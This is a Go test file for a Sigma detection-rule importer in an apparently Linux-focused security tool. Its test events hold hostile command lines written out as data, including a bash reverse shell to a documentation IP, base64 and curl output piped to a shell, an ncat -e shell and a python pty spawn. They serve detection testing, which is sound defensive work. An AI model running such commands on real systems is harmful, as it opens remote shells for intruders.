package sigma

import (
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/vigil-sec/vigil/internal/engine"
	"github.com/vigil-sec/vigil/internal/event"
	"github.com/vigil-sec/vigil/internal/importer"
)

func proc(image, cmd string) event.Event {
	return event.Event{Type: event.NewProcess, FilePath: image, CommandLine: cmd, User: "alice",
		ParentFilePath: "/usr/bin/bash", ParentCommandLine: "bash"}
}

func with(e event.Event, f func(*event.Event)) event.Event {
	f(&e)
	return e
}

func create(image, target string) event.Event {
	return event.Event{Type: event.FileOpen, FilePath: image, TargetPath: target, FileFlags: "write,create", User: "alice"}
}

func conn(image, ip string, port uint16) event.Event {
	return event.Event{Type: event.NetworkConnect, FilePath: image, DestIP: ip, DestPort: port, SourceIP: "10.9.9.9", SourcePort: 50000}
}

func compile(t *testing.T, rs []importer.Rule) []*engine.Rule {
	t.Helper()
	var out []*engine.Rule
	for _, r := range rs {
		er, err := engine.Parse(r.FileName(), r.YAML)
		if err != nil {
			t.Fatalf("engine.Parse refused the converted rule: %v\n%s", err, r.YAML)
		}
		out = append(out, er)
	}
	return out
}

func fires(rs []*engine.Rule, e event.Event) bool {
	for _, r := range rs {
		if r.Matches(&e) {
			return true
		}
	}
	return false
}

// TestTestdata converts every rule of testdata: the supported ones load and fire on
// the events they describe and on no others; the others are skipped with a reason.
func TestTestdata(t *testing.T) {
	tests := []struct {
		file    string
		rules   string // converted rule names, or "" when skipped
		skipped string // fragment of the skip reason
		match   []event.Event
		nomatch []event.Event
	}{
		{file: "proc_creation_lnx_reverse_shell_bash.yml", rules: "bash_interactive_reverse_shell_via_dev_tcp",
			match:   []event.Event{proc("/usr/bin/bash", "bash -i >& /dev/tcp/203.0.113.5/4444 0>&1"), proc("/bin/BASH", "BASH -I >& /DEV/TCP/1.2.3.4/1 0>&1")},
			nomatch: []event.Event{proc("/usr/bin/bash", "bash -i"), proc("/usr/bin/zsh", "zsh -i >& /dev/tcp/1.2.3.4/1 0>&1")}},
		{file: "proc_creation_lnx_base64_shell.yml", rules: "base64_decoded_content_piped_to_a_shell",
			match:   []event.Event{proc("/bin/sh", "sh -c echo ZWNobw== | base64 -d | bash"), proc("/bin/sh", "sh -c cat x|base64 --decode|sh")},
			nomatch: []event.Event{proc("/bin/sh", "sh -c base64 -d x > y"), proc("/bin/sh", "sh -c curl x | bash")}},
		{file: "proc_creation_lnx_susp_tmp_exec.yml", rules: "execution_of_binary_from_temporary_directory_by_web_server",
			match: []event.Event{with(proc("/tmp/x", "x"), func(e *event.Event) { e.ParentFilePath = "/usr/sbin/nginx" }),
				with(proc("/dev/shm/.k", "k"), func(e *event.Event) { e.ParentFilePath = "/usr/sbin/httpd" })},
			nomatch: []event.Event{with(proc("/usr/bin/id", "id"), func(e *event.Event) { e.ParentFilePath = "/usr/sbin/nginx" }),
				proc("/tmp/x", "x"),
				with(proc("/tmp/healthcheck-web.sh", "x"), func(e *event.Event) { e.ParentFilePath = "/usr/sbin/nginx" })}},
		{file: "proc_creation_lnx_crontab_removal.yml", rules: "crontab_removal_by_non_root_user",
			match:   []event.Event{proc("/usr/bin/crontab", "crontab -r")},
			nomatch: []event.Event{with(proc("/usr/bin/crontab", "crontab -r"), func(e *event.Event) { e.User = "ROOT" }), proc("/usr/bin/crontab", "crontab -l")}},
		{file: "file_event_lnx_authorized_keys.yml", rules: "ssh_authorized_keys_file_created_or_overwritten",
			match: []event.Event{create("/usr/bin/bash", "/root/.ssh/authorized_keys"),
				with(create("/usr/bin/cp", "/home/a/.ssh/authorized_keys2"), func(e *event.Event) { e.FileFlags = "write,truncate" })},
			nomatch: []event.Event{create("/usr/sbin/sshd", "/root/.ssh/authorized_keys"),
				with(create("/usr/bin/cat", "/root/.ssh/authorized_keys"), func(e *event.Event) { e.FileFlags = "read" })}},
		{file: "file_event_lnx_cron_persistence.yml", rules: "persistence_via_cron_files",
			match:   []event.Event{create("/bin/sh", "/etc/cron.d/job"), create("/bin/sh", "/etc/crontab"), create("/bin/sh", "/var/spool/cron/crontabs/root")},
			nomatch: []event.Event{create("/bin/sh", "/etc/hosts")}},
		{file: "net_connection_lnx_susp_ports.yml", rules: "outbound_connection_to_common_reverse_shell_ports",
			match:   []event.Event{conn("/usr/bin/bash", "203.0.113.9", 4444), conn("/usr/bin/python3", "2001:db8::2", 9001)},
			nomatch: []event.Event{conn("/usr/bin/bash", "10.1.2.3", 4444), conn("/usr/bin/bash", "203.0.113.9", 443), conn("/usr/bin/curl", "203.0.113.9", 4444), {Type: event.NetworkAccept, FilePath: "/usr/bin/bash", DestIP: "203.0.113.9", DestPort: 4444}}},
		{file: "net_connection_lnx_ngrok.yml", skipped: "field DestinationHostname is not supported: Vigil's connection events carry the address only: the sensor keeps no DNS answers"},
		{file: "proc_creation_lnx_windash.yml", skipped: "modifier windash of CommandLine is not supported: it turns - into / and Unicode dashes"},
		{file: "proc_creation_lnx_count.yml", skipped: "aggregation \"| count() by User > 5\" is not supported"},
	}
	files, _ := filepath.Glob("testdata/*.yml")
	if len(files) != len(tests) {
		t.Errorf("%d files in testdata, %d tested", len(files), len(tests))
	}
	for _, tc := range tests {
		t.Run(tc.file, func(t *testing.T) {
			data, err := os.ReadFile(filepath.Join("testdata", tc.file))
			if err != nil {
				t.Fatal(err)
			}
			if f := importer.Sniff(data); f != importer.Sigma {
				t.Errorf("sniffed as %v", f)
			}
			rs, skipped, err := Convert(tc.file, data)
			if err != nil {
				t.Fatal(err)
			}
			if tc.skipped != "" {
				if len(rs) != 0 || len(skipped) != 1 || !strings.Contains(skipped[0].Reason, tc.skipped) {
					t.Fatalf("want skipped with %q, got rules %d skipped %v", tc.skipped, len(rs), skipped)
				}
				if !strings.HasPrefix(skipped[0].Reason, tc.file+":") {
					t.Errorf("reason does not name the file and line: %s", skipped[0].Reason)
				}
				return
			}
			if len(skipped) > 0 {
				t.Fatalf("skipped: %v", skipped)
			}
			var names []string
			for _, r := range rs {
				names = append(names, r.Name)
			}
			if got := strings.Join(names, ","); got != tc.rules {
				t.Fatalf("rules %s, want %s", got, tc.rules)
			}
			compiled := compile(t, rs)
			for i, e := range tc.match {
				if !fires(compiled, e) {
					t.Errorf("does not fire on event %d %+v\n%s", i, e, rs[0].YAML)
				}
			}
			for i, e := range tc.nomatch {
				if fires(compiled, e) {
					t.Errorf("fires on event %d %+v\n%s", i, e, rs[0].YAML)
				}
			}
		})
	}
}

// doc is a Sigma rule of a category, or of the auditd service.
func doc(category, detection string) string {
	ls := "category: " + category
	if category == "auditd" {
		ls = "service: auditd"
	}
	return `title: Test Rule
id: 11111111-2222-3333-4444-555555555555
status: test
description: a test
tags: [attack.execution, attack.t1059, attack.t1059.004, cve.2021-4034]
logsource:
  product: linux
  ` + ls + `
detection:
` + detection + `
level: low
`
}

func TestDetections(t *testing.T) {
	tests := []struct {
		name, cat, det string
		yaml           []string
		events         string
		match, nomatch []event.Event
	}{
		{name: "exact is case-insensitive", cat: "process_creation",
			det:   "  sel:\n    Image: /usr/bin/Whoami\n  condition: sel",
			yaml:  []string{"op: is", "case sensitive: false"},
			match: []event.Event{proc("/usr/bin/whoami", "")}, nomatch: []event.Event{proc("/usr/bin/whoami2", "")}},
		{name: "cased", cat: "process_creation",
			det:   "  sel:\n    CommandLine|cased|contains: ABC\n  condition: sel",
			match: []event.Event{proc("/x", "x ABC")}, nomatch: []event.Event{proc("/x", "x abc")}},
		{name: "value list is an in list", cat: "process_creation",
			det:   "  sel:\n    Image:\n      - /bin/a\n      - /bin/b\n  condition: sel",
			yaml:  []string{"op: in list", "values: [/bin/a, /bin/b]"},
			match: []event.Event{proc("/bin/B", "")}, nomatch: []event.Event{proc("/bin/c", "")}},
		{name: "startswith and endswith", cat: "process_creation",
			det:   "  sel:\n    Image|startswith: /opt/\n    CommandLine|endswith: --daemon\n  condition: sel",
			match: []event.Event{proc("/opt/x", "x --daemon")}, nomatch: []event.Event{proc("/opt/x", "x --daemon -v"), proc("/usr/x", "x --daemon")}},
		{name: "wildcards", cat: "process_creation",
			det:   "  sel:\n    CommandLine: '*python?* -c *pty.spawn*'\n  condition: sel",
			yaml:  []string{"op: matches"},
			match: []event.Event{proc("/x", "/usr/bin/python3 -c import pty;pty.spawn('/bin/sh')")}, nomatch: []event.Event{proc("/x", "python -c print(1)")}},
		{name: "escaped wildcard is literal", cat: "process_creation",
			det:   "  sel:\n    CommandLine|contains: 'rm -rf \\*'\n  condition: sel",
			yaml:  []string{"op: contains", "value: rm -rf *"},
			match: []event.Event{proc("/x", "rm -rf *")}, nomatch: []event.Event{proc("/x", "rm -rf /")}},
		{name: "re with flag", cat: "process_creation",
			det:   "  sel:\n    CommandLine|re|i: 'nc(at)? .*-e /bin/(ba)?sh'\n  condition: sel",
			yaml:  []string{"re: (?i)nc(at)? .*-e /bin/(ba)?sh"},
			match: []event.Event{proc("/x", "NCAT 1.2.3.4 80 -e /bin/bash")}, nomatch: []event.Event{proc("/x", "nc -l 80")}},
		{name: "null is empty", cat: "process_creation",
			det:   "  sel:\n    Image|endswith: /sh\n    ParentCommandLine: null\n  condition: sel",
			match: []event.Event{with(proc("/bin/sh", "sh"), func(e *event.Event) { e.ParentCommandLine = "" })}, nomatch: []event.Event{proc("/bin/sh", "sh")}},
		{name: "exists", cat: "process_creation",
			det:   "  sel:\n    ParentCommandLine|exists: true\n    Image: /bin/sh\n  condition: sel",
			match: []event.Event{proc("/bin/sh", "sh")}, nomatch: []event.Event{with(proc("/bin/sh", "sh"), func(e *event.Event) { e.ParentCommandLine = "" })}},
		{name: "list of mappings is an or", cat: "process_creation",
			det:   "  sel:\n    - Image: /bin/a\n    - CommandLine|contains: zzz\n  condition: sel",
			match: []event.Event{proc("/bin/a", ""), proc("/bin/b", "x zzz")}, nomatch: []event.Event{proc("/bin/b", "x")}},
		{name: "all of them", cat: "process_creation",
			det:   "  a:\n    Image: /bin/a\n  b:\n    User: root\n  _ignored:\n    User: nobody\n  condition: all of them",
			match: []event.Event{with(proc("/bin/a", ""), func(e *event.Event) { e.User = "root" })}, nomatch: []event.Event{proc("/bin/a", "")}},
		{name: "1 of them", cat: "process_creation",
			det:   "  a:\n    Image: /bin/a\n  b:\n    User: root\n  condition: 1 of them",
			match: []event.Event{proc("/bin/a", ""), with(proc("/bin/b", ""), func(e *event.Event) { e.User = "root" })}, nomatch: []event.Event{proc("/bin/b", "")}},
		{name: "parentheses, or, not", cat: "process_creation",
			det:     "  a:\n    Image: /bin/a\n  b:\n    Image: /bin/b\n  f:\n    User: root\n  condition: (a or b) and not f",
			match:   []event.Event{proc("/bin/a", ""), proc("/bin/b", "")},
			nomatch: []event.Event{with(proc("/bin/a", ""), func(e *event.Event) { e.User = "root" }), proc("/bin/c", "")}},
		{name: "list of conditions", cat: "process_creation",
			det:   "  a:\n    Image: /bin/a\n  b:\n    Image: /bin/b\n  condition:\n    - a\n    - b",
			match: []event.Event{proc("/bin/a", ""), proc("/bin/b", "")}, nomatch: []event.Event{proc("/bin/c", "")}},
		{name: "parent fields and ids", cat: "process_creation",
			det: "  sel:\n    ParentImage: /usr/sbin/cron\n    ParentCommandLine|contains: CRON\n    ParentProcessId: 1\n  condition: sel",
			match: []event.Event{with(proc("/bin/sh", ""), func(e *event.Event) {
				e.ParentFilePath, e.ParentCommandLine, e.PPID = "/usr/sbin/cron", "/usr/sbin/CRON -f", 1
			})},
			nomatch: []event.Event{proc("/bin/sh", "")}},
		{name: "numbers compare", cat: "network_connection",
			det:    "  sel:\n    Initiated: 'true'\n    DestinationPort|gte: 1024\n    DestinationPort|lt: 2000\n  condition: sel",
			events: "NETWORK_CONNECT",
			match:  []event.Event{conn("/x", "1.1.1.1", 1024), conn("/x", "1.1.1.1", 1999)}, nomatch: []event.Event{conn("/x", "1.1.1.1", 1023), conn("/x", "1.1.1.1", 2000)}},
		{name: "both directions without Initiated", cat: "network_connection",
			det:    "  sel:\n    DestinationIp|cidr: 203.0.113.0/24\n  condition: sel",
			events: "NETWORK_CONNECT,NETWORK_ACCEPT",
			match:  []event.Event{conn("/x", "203.0.113.1", 1), {Type: event.NetworkAccept, DestIP: "203.0.113.1"}}, nomatch: []event.Event{conn("/x", "203.0.114.1", 1)}},
		{name: "inbound only", cat: "network_connection",
			det:    "  sel:\n    Initiated: 'false'\n    SourceIp: 198.51.100.7\n  condition: sel",
			events: "NETWORK_ACCEPT",
			match:  []event.Event{{Type: event.NetworkAccept, SourceIP: "198.51.100.7"}}, nomatch: []event.Event{with(conn("/x", "1.1.1.1", 1), func(e *event.Event) { e.SourceIP = "198.51.100.7" })}},
		{name: "file event needs a created file", cat: "file_event",
			det:    "  sel:\n    TargetFilename|endswith: .service\n  condition: sel",
			events: "FILE_OPEN", yaml: []string{"path: event/FILE_FLAGS"},
			match:   []event.Event{create("/x", "/etc/systemd/system/evil.service")},
			nomatch: []event.Event{with(create("/x", "/etc/systemd/system/evil.service"), func(e *event.Event) { e.FileFlags = "read" })}},
		{name: "Initiated takes true or false only", cat: "network_connection",
			det:     "  sel:\n    Initiated: 'TRUE'\n    DestinationPort: 22\n  other:\n    Initiated: 'maybe'\n  condition: sel or other",
			events:  "NETWORK_CONNECT",
			match:   []event.Event{conn("/x", "1.1.1.1", 22)},
			nomatch: []event.Event{{Type: event.NetworkAccept, DestPort: 22}}},
		{name: "LogonId is the uid and the terminal's index", cat: "process_creation",
			det:     "  sel:\n    LogonId: 0x3000003e8\n  condition: sel",
			yaml:    []string{"path: event/USER_ID", "value: 1000", `re: (^|[^0-9])3$`},
			match:   []event.Event{{Type: event.NewProcess, UID: 1000, TTY: "pts/3"}, {Type: event.NewProcess, UID: 1000, TTY: "tty3"}},
			nomatch: []event.Event{{Type: event.NewProcess, UID: 1000, TTY: "pts/13"}, {Type: event.NewProcess, UID: 1000}, {Type: event.NewProcess, UID: 0, TTY: "pts/3"}}},
		{name: "EXECVE a0 is argv[0]", cat: "auditd",
			det:     "  sel:\n    type: EXECVE\n    a0: /bin/busybox\n    a1|startswith: wget\n  condition: sel",
			events:  "NEW_PROCESS",
			yaml:    []string{"path: event/ARGS/0", "path: event/ARGS/1"},
			match:   []event.Event{{Type: event.NewProcess, Args: []string{"/bin/busybox", "wget", "http://x"}}},
			nomatch: []event.Event{{Type: event.NewProcess, FilePath: "/bin/busybox", Args: []string{"busybox", "wget"}}}},
		{name: "a search without type applies to the records that have its fields", cat: "auditd",
			det:    "  sel:\n    a1|startswith: '--token='\n  condition: sel",
			events: "NEW_PROCESS",
			match:  []event.Event{{Type: event.NewProcess, Args: []string{"agent", "--token=abc"}}}},
		{name: "a raw syscall argument that cannot be hexadecimal never matches", cat: "auditd",
			det:    "  sel:\n    a2: 'x'\n  other:\n    type: EXECVE\n    a0: ls\n  condition: sel or other",
			events: "NEW_PROCESS",
			match:  []event.Event{{Type: event.NewProcess, Args: []string{"ls"}}}},
		{name: "keywords with re over an EXECVE record", cat: "auditd",
			det:     "  sel:\n    type: EXECVE\n  kw:\n    '|re': 'curl .*\\|\\s*sh'\n  condition: sel and kw",
			yaml:    []string{"path: event/COMMAND_LINE", "op: matches"},
			match:   []event.Event{{Type: event.NewProcess, CommandLine: "sh -c curl x | sh"}},
			nomatch: []event.Event{{Type: event.NewProcess, CommandLine: "sh -c curl x > sh"}}},
		{name: "comm with a wildcard stays within the program's name", cat: "auditd",
			det:     "  sel:\n    type: SYSCALL\n    comm: 'kwork*'\n  condition: sel",
			yaml:    []string{`re: (?i)^(?:.*/)?kwork[^/]*$`},
			match:   []event.Event{{Type: event.NewProcess, Args: []string{"/tmp/kworker"}}},
			nomatch: []event.Event{{Type: event.NewProcess, Args: []string{"/tmp/kwork/x"}}}},
		{name: "uid names and numbers", cat: "auditd",
			det:     "  sel:\n    type: SYSCALL\n    SYSCALL: [execve, execveat]\n    uid: [0, nobody]\n  condition: sel",
			events:  "NEW_PROCESS",
			match:   []event.Event{{Type: event.NewProcess, UID: 0, User: "root"}, {Type: event.NewProcess, UID: 65534, User: "nobody"}},
			nomatch: []event.Event{{Type: event.NewProcess, UID: 1000, User: "alice"}}},
		{name: "syscalls of one event type told apart by OPERATION", cat: "auditd",
			det:     "  sel:\n    type: SYSCALL\n    SYSCALL: [mount, umount2]\n  condition: sel",
			events:  "MOUNT,UNMOUNT",
			yaml:    []string{"path: event/OPERATION", "values: [mount]"},
			match:   []event.Event{{Type: event.Mount, Operation: "mount"}, {Type: event.Unmount, Operation: "umount2"}},
			nomatch: []event.Event{{Type: event.Mount, Operation: "move_mount"}}},
		{name: "mknod told apart from mknodat by OPERATION", cat: "auditd",
			det:     "  sel:\n    type: SYSCALL\n    SYSCALL: mknod\n  condition: sel",
			events:  "FILE_MKNOD",
			yaml:    []string{"path: event/OPERATION", "values: [mknod]"},
			match:   []event.Event{{Type: event.FileMknod, Operation: "mknod", FileType: "fifo"}},
			nomatch: []event.Event{{Type: event.FileMknod, Operation: "mknodat", FileType: "fifo"}}},
		{name: "every syscall of an event type needs no OPERATION", cat: "auditd",
			det:    "  sel:\n    type: SYSCALL\n    SYSCALL: [unlink, unlinkat, rmdir]\n    exe: /usr/bin/shred\n  condition: sel",
			events: "DIR_DELETE,FILE_DELETE",
			match:  []event.Event{{Type: event.FileDelete, FilePath: "/usr/bin/shred"}, {Type: event.DirDelete, FilePath: "/usr/bin/shred"}}},
		{name: "syslog's actions are KERNEL_LOG_CONTROL's operations", cat: "auditd",
			det:    "  sel:\n    type: SYSCALL\n    SYSCALL: syslog\n    a0: [4, 5, 6]\n  condition: sel",
			events: "KERNEL_LOG_CONTROL",
			yaml:   []string{"path: event/OPERATION"},
			match: []event.Event{{Type: event.KernelLogControl, Operation: "clear"}, {Type: event.KernelLogControl, Operation: "read_clear", ErrorCode: 22},
				{Type: event.KernelLogControl, Operation: "console_off"}},
			nomatch: []event.Event{{Type: event.KernelLogControl, Operation: "console_on"}, {Type: event.KernelLogControl, Operation: "console_level"}}},
		{name: "a syslog call that succeeded has no error code", cat: "auditd",
			det:     "  sel:\n    type: SYSCALL\n    SYSCALL: syslog\n    a0: '5'\n    success: 'yes'\n  condition: sel",
			events:  "KERNEL_LOG_CONTROL",
			match:   []event.Event{{Type: event.KernelLogControl, Operation: "clear"}},
			nomatch: []event.Event{{Type: event.KernelLogControl, Operation: "clear", ErrorCode: 1}}},
		{name: "success: yes holds on Vigil's events", cat: "auditd",
			det:    "  sel:\n    type: SYSCALL\n    SYSCALL: memfd_create\n    success: 'yes'\n  condition: sel",
			events: "MEMFD_CREATE",
			match:  []event.Event{{Type: event.MemfdCreate}}},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			rs, skipped, err := Convert("t.yml", []byte(doc(tc.cat, tc.det)))
			if err != nil || len(skipped) > 0 {
				t.Fatalf("err %v skipped %v", err, skipped)
			}
			var all strings.Builder
			for _, r := range rs {
				all.Write(r.YAML)
			}
			for _, frag := range tc.yaml {
				if !strings.Contains(all.String(), frag) {
					t.Errorf("YAML lacks %q:\n%s", frag, all.String())
				}
			}
			compiled := compile(t, rs)
			if tc.events != "" {
				var evs []string
				for _, r := range compiled {
					evs = append(evs, r.Events...)
				}
				if got := strings.Join(evs, ","); got != tc.events {
					t.Errorf("events %s, want %s", got, tc.events)
				}
			}
			for i, e := range tc.match {
				if !fires(compiled, e) {
					t.Errorf("does not fire on event %d %+v\n%s", i, e, all.String())
				}
			}
			for i, e := range tc.nomatch {
				if fires(compiled, e) {
					t.Errorf("fires on event %d %+v\n%s", i, e, all.String())
				}
			}
		})
	}
}

func TestMetadata(t *testing.T) {
	rs, _, err := Convert("t.yml", []byte(doc("process_creation", "  sel:\n    Image: /x\n  condition: sel")))
	if err != nil || len(rs) != 1 {
		t.Fatal(err, rs)
	}
	y := string(rs[0].YAML)
	for _, want := range []string{"name: test_rule", "severity: low", "category: execution", "description: a test",
		"mitre: [T1059, T1059.004]", "maturity: incubating", "sigma_id: 11111111-2222-3333-4444-555555555555", "source_rule: Test Rule"} {
		if !strings.Contains(y, want) {
			t.Errorf("lacks %q:\n%s", want, y)
		}
	}
	for level, sev := range map[string]string{"informational": "info", "low": "low", "medium": "medium", "high": "high", "critical": "critical"} {
		rs, _, _ := Convert("t.yml", []byte(strings.Replace(doc("process_creation", "  sel:\n    Image: /x\n  condition: sel"), "level: low", "level: "+level, 1)))
		if len(rs) != 1 || !strings.Contains(string(rs[0].YAML), "severity: "+sev) {
			t.Errorf("level %s: want severity %s", level, sev)
		}
	}
	stable := strings.Replace(doc("process_creation", "  sel:\n    Image: /x\n  condition: sel"), "status: test", "status: stable", 1)
	if rs, _, _ := Convert("t.yml", []byte(stable)); len(rs) != 1 || !strings.Contains(string(rs[0].YAML), "maturity: stable") {
		t.Error("status stable: want maturity stable")
	}
	r := compile(t, rs)[0].Report()
	if r.Metadata["mitre"] != "T1059,T1059.004" || r.Severity() != "low" {
		t.Errorf("engine reads %+v", r)
	}
}

func TestSkipped(t *testing.T) {
	base := doc("process_creation", "  sel:\n    Image: /x\n  condition: sel")
	tests := []struct{ doc, want string }{
		{strings.Replace(base, "product: linux", "product: windows", 1), `logsource product "windows" is not supported`},
		{strings.Replace(base, "category: process_creation", "category: dns_query", 1), `logsource category "dns_query" is not supported`},
		{strings.Replace(base, "category: process_creation", "service: auditd", 1), `field Image is not supported: it is not a field of SYSCALL, EXECVE or PATH records`},
		{strings.Replace(base, "category: process_creation", "service: cron", 1), `logsource service cron: the rule reads cron's log messages`},
		{strings.Replace(base, "status: test", "status: deprecated", 1), `status deprecated: not imported`},
		{doc("process_creation", "  sel:\n    - whoami\n  condition: sel"), `keyword (full-text) searches are not supported`},
		{doc("process_creation", "  sel:\n    IntegrityLevel: High\n  condition: sel"), `field IntegrityLevel is not supported: Linux processes have no integrity level`},
		{doc("process_creation", "  sel:\n    TargetFilename: /tmp\n  condition: sel"), `field TargetFilename is not supported in process_creation rules`},
		{doc("process_creation", "  sel:\n    CommandLine|base64offset|contains: x\n  condition: sel"), `modifier base64offset of CommandLine is not supported`},
		{doc("process_creation", "  sel:\n    Image: /x\n  condition: 2 of sel*"), `"2" of is not supported`},
		{doc("process_creation", "  sel:\n    Image: /x\n  condition: sel and other"), `unknown search identifier "other"`},
		{doc("process_creation", "  sel:\n    Image: /x\n  condition: 1 of filter*"), `1 of filter* matches no search identifier`},
		{doc("process_creation", "  sel:\n    Image: /x\n  condition: (sel"), `unbalanced parenthesis`},
		{doc("process_creation", "  sel:\n    Image|re: '(?<=x)y'\n  condition: sel"), `is not RE2`},
		{doc("process_creation", "  sel:\n    ProcessId: abc\n  condition: sel"), `"abc" is not a number`},
		{doc("network_connection", "  sel:\n    DestinationIp|cidr: nope\n  condition: sel"), `"nope" is not a network prefix`},
		{doc("process_creation", "  sel:\n    Image: /x\n"), `detection has no condition:`},
		{"action: global\ntitle: t\nlogsource: {product: linux}\n", `rule collections (action: global) are not supported`},
		{doc("auditd", "  sel:\n    type: SYSCALL\n    SYSCALL: memfd_create\n    success: 'no'\n  condition: sel"), `detection can never match on Vigil events`},
		{doc("auditd", "  sel:\n    type|cased: execve\n  condition: sel"), `detection can never match on Vigil events`},
		{doc("auditd", "  sel:\n    type|contains: EXEC\n  condition: sel"), `type: modifier contains is not supported here: give the name itself`},
		{doc("auditd", "  sel:\n    type: SYSCALL\n    SYSCALL: 'mem*'\n  condition: sel"), `wildcards in "mem*" are not supported here`},
		{doc("auditd", "  sel:\n    type: SYSCALL\n    syscall: 59\n  condition: sel"), `syscall numbers differ between architectures`},
		{doc("auditd", "  sel:\n    type: SYSCALL\n    SYSCALL: [unlink, unlinkat]\n  condition: sel"), `the rule matches unlinkat but not rmdir, and Vigil's DIR_DELETE events do not say which of them was made`},
		{doc("auditd", "  sel:\n    type: SYSCALL\n    comm|re: 'x'\n  condition: sel"), `modifier re does not apply to a program name taken from argv[0]`},
		{doc("process_creation", "  sel:\n    LogonId|contains: '0'\n  condition: sel"), `LogonId: modifier contains is not supported here`},
	}
	for _, tc := range tests {
		rs, skipped, err := Convert("t.yml", []byte(tc.doc))
		if err != nil {
			t.Errorf("%s: error %v", tc.want, err)
			continue
		}
		if len(rs) != 0 || len(skipped) != 1 || !strings.Contains(skipped[0].Reason, tc.want) {
			t.Errorf("want skipped with %q, got %d rules, %v", tc.want, len(rs), skipped)
			continue
		}
		if !strings.HasPrefix(skipped[0].Reason, `t.yml:`) || !strings.Contains(skipped[0].Reason, `rule "`) {
			t.Errorf("reason does not name file, line and rule: %s", skipped[0].Reason)
		}
	}
}

func TestMultipleDocuments(t *testing.T) {
	a := doc("process_creation", "  sel:\n    Image: /a\n  condition: sel")
	rs, skipped, err := Convert("t.yml", []byte(a+"---\n"+a))
	if err != nil || len(skipped) != 0 || len(rs) != 2 || rs[1].Name != "test_rule_2" {
		t.Fatalf("err %v skipped %v rules %d", err, skipped, len(rs))
	}
	if _, _, err := Convert("t.yml", []byte("a: [")); err == nil {
		t.Error("invalid YAML accepted")
	}
}
